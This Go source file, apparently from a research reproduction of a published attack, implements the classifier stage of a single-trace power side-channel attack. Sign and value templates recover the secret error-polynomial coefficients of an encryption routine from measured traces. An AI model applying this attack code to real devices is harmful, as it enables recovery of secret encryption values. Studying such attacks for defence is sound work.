@@ -1,0 +1,170 @@
+package core
+
+import (
+	"fmt"
+
+	"reveal/internal/sca"
+	"reveal/internal/trace"
+)
+
+// CoefficientClassifier is the trained single-trace attack: a sign (branch)
+// classifier exploiting V1 plus per-sign value templates exploiting V2 (and
+// V3 on the negative side, where the negation leaks a second Hamming
+// weight).
+type CoefficientClassifier struct {
+	// Length is the common sub-trace length templates were trained at.
+	Length int
+	// MaxAbsValue bounds the coefficient magnitude covered by templates.
+	MaxAbsValue int
+	// Sign classifies the branch taken: labels −1, 0, +1.
+	Sign *sca.Templates
+	// Pos holds value templates for labels 1..MaxAbsValue.
+	Pos *sca.Templates
+	// Neg holds value templates for labels −MaxAbsValue..−1.
+	Neg *sca.Templates
+}
+
+// Classification is the outcome for one coefficient sub-trace.
+type Classification struct {
+	// Value is the maximum-likelihood coefficient.
+	Value int
+	// Sign is the recovered branch (−1, 0, +1).
+	Sign int
+	// Probs is the posterior over coefficient values (Table II's rows):
+	// P(v) = P(sign)·P(v | sign).
+	Probs map[int]float64
+}
+
+// tailAlign aligns a sub-trace by its end: the sampler-port read at the
+// start of each iteration has data-dependent duration (the time-variant
+// distribution call), but everything after it — the branch, the stores, the
+// loop increment — is a fixed number of cycles from the segment end, so the
+// last L samples are position-stable. Shorter segments are stretched.
+func tailAlign(seg trace.Trace, length int) trace.Trace {
+	if len(seg) >= length {
+		return seg[len(seg)-length:].Clone()
+	}
+	return seg.Resample(length)
+}
+
+// ClassifySegment classifies one per-coefficient sub-trace.
+func (c *CoefficientClassifier) ClassifySegment(seg trace.Trace) (*Classification, error) {
+	aligned := tailAlign(seg, c.Length)
+	signProbs, err := c.Sign.Probabilities(aligned)
+	if err != nil {
+		return nil, fmt.Errorf("core: sign classification: %w", err)
+	}
+	sign, err := c.Sign.Classify(aligned)
+	if err != nil {
+		return nil, err
+	}
+
+	probs := map[int]float64{0: signProbs[0]}
+	if c.Pos != nil {
+		posProbs, err := c.Pos.Probabilities(aligned)
+		if err != nil {
+			return nil, fmt.Errorf("core: positive value classification: %w", err)
+		}
+		for v, p := range posProbs {
+			probs[v] = signProbs[1] * p
+		}
+	}
+	if c.Neg != nil {
+		negProbs, err := c.Neg.Probabilities(aligned)
+		if err != nil {
+			return nil, fmt.Errorf("core: negative value classification: %w", err)
+		}
+		for v, p := range negProbs {
+			probs[v] = signProbs[-1] * p
+		}
+	}
+	// Normalize (guards against a missing side).
+	total := 0.0
+	for _, p := range probs {
+		total += p
+	}
+	if total > 0 {
+		for v := range probs {
+			probs[v] /= total
+		}
+	}
+
+	// Maximum-likelihood value within the recovered sign class, matching
+	// the paper's procedure (branch first, then the value template).
+	value := 0
+	switch sign {
+	case 1:
+		if c.Pos == nil {
+			return nil, fmt.Errorf("core: no positive templates")
+		}
+		value, err = c.Pos.Classify(aligned)
+	case -1:
+		if c.Neg == nil {
+			return nil, fmt.Errorf("core: no negative templates")
+		}
+		value, err = c.Neg.Classify(aligned)
+	}
+	if err != nil {
+		return nil, err
+	}
+	return &Classification{Value: value, Sign: sign, Probs: probs}, nil
+}
+
+// AttackResult aggregates the single-trace attack over one error
+// polynomial.
+type AttackResult struct {
+	Values []int
+	Signs  []int
+	Probs  []map[int]float64
+}
+
+// AttackSegments classifies every per-coefficient segment of an already
+// segmented encryption trace.
+func (c *CoefficientClassifier) AttackSegments(segs []trace.Segment) (*AttackResult, error) {
+	res := &AttackResult{
+		Values: make([]int, len(segs)),
+		Signs:  make([]int, len(segs)),
+		Probs:  make([]map[int]float64, len(segs)),
+	}
+	for i, s := range segs {
+		cl, err := c.ClassifySegment(s.Samples)
+		if err != nil {
+			return nil, fmt.Errorf("core: coefficient %d: %w", i, err)
+		}
+		res.Values[i] = cl.Value
+		res.Signs[i] = cl.Sign
+		res.Probs[i] = cl.Probs
+	}
+	return res, nil
+}
+
+// AttackTrace segments a full sampling trace into n coefficients and
+// classifies each — the complete single-trace attack of §III.
+func (c *CoefficientClassifier) AttackTrace(tr trace.Trace, n int) (*AttackResult, error) {
+	segs, err := trace.SegmentEncryptionTrace(tr, n, 8)
+	if err != nil {
+		return nil, err
+	}
+	return c.AttackSegments(segs)
+}
+
+// Accuracy compares recovered values with ground truth.
+func (r *AttackResult) Accuracy(truth []int64) (valueAcc, signAcc float64, err error) {
+	if len(truth) != len(r.Values) {
+		return 0, 0, fmt.Errorf("core: truth length %d vs %d recovered", len(truth), len(r.Values))
+	}
+	if len(truth) == 0 {
+		return 0, 0, nil
+	}
+	valOK, signOK := 0, 0
+	for i, v := range r.Values {
+		if int64(v) == truth[i] {
+			valOK++
+		}
+		if r.Signs[i] == sca.SignOf(int(truth[i])) {
+			signOK++
+		}
+	}
+	n := float64(len(truth))
+	return float64(valOK) / n, float64(signOK) / n, nil
+}
